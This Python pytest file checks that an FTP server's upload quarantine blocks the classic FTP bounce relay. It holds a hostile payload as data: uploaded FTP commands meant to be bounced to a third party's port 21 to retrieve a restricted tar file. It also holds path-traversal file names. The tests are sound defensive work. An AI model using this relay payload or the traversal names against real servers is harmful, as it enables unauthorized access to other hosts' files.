# SPDX-License-Identifier: ISC
"""Hobbit's relay of 1995 (CERT's tip, section 5.2): upload a file of FTP commands, then have the server send it to another server's port 21."""

import contextlib

import pytest

from lib import netns, wire
from lib.dropbox import OPTIONS, Quarantine

COMMANDS = b"USER anonymous\r\nPASS -relay@\r\nTYPE I\r\nPORT 192,0,2,9,4,1\r\nRETR /export/restricted.tar\r\nQUIT\r\n" + b"\0" * 60_000

pytestmark = pytest.mark.isolated


@pytest.fixture
def victim():
    """The other server: it would take the commands as its client's."""
    with contextlib.closing(wire.canary(netns.THIRD_PARTY4, 21)) as listener:
        yield listener


def names_of(box):
    note = box.notes()[-1]
    return ["commands", "upload/commands", f"upload/{note['id']}", f"upload/{note['id']}.json", f"/{note['id']}", f"../{box.root.name}/waiting/{note['id']}",
            str(box.waiting / note["id"]), "upload/*", f"face/{note['id']}"]


@pytest.mark.parametrize("policy", ["suppress", "allow-list", "rfc"])
def test_what_was_dropped_is_sent_nowhere(launch, victim, policy):
    """Under rfc the server connects wherever it is told, and even then has nothing to send."""
    server = launch(*OPTIONS, "--port-policy", policy)
    box = Quarantine(server)
    with contextlib.closing(server.connect(host=netns.HOST4)) as session:
        session.login()
        session.put("STOR upload/commands", COMMANDS)
        for name in names_of(box):
            for order in (wire.port(netns.THIRD_PARTY4, 21), wire.eprt(netns.THIRD_PARTY4, 21)):
                permitted = session.cmd(order, 200, 501, 504).code == 200
                assert permitted == (policy == "rfc")
                session.cmd(f"RETR {name}", 550, 553, 425)
        assert not wire.was_called(victim)
        # The same with a port that the client offers: there is nothing to fetch for the client either.
        for name in names_of(box):
            with contextlib.closing(session.passive()):
                session.cmd(f"RETR {name}", 550, 553)
    assert box.contents() == [COMMANDS]


def test_not_even_when_it_was_approved(launch, victim):
    server = launch(*OPTIONS)
    box = Quarantine(server)
    with contextlib.closing(server.connect(host=netns.HOST4)) as session:
        session.login()
        session.put("STOR upload/commands", COMMANDS)
        box.command("approve", box.notes()[0]["id"], "--to", server.tree.root)
        assert session.fetch("RETR commands") == COMMANDS
        session.cmd(wire.port(netns.THIRD_PARTY4, 21), 504)
        session.cmd("RETR commands", 425)
        session.cmd(wire.port(netns.HOST4, 21), 504)
        session.cmd("RETR commands", 425)
        assert not wire.was_called(victim)
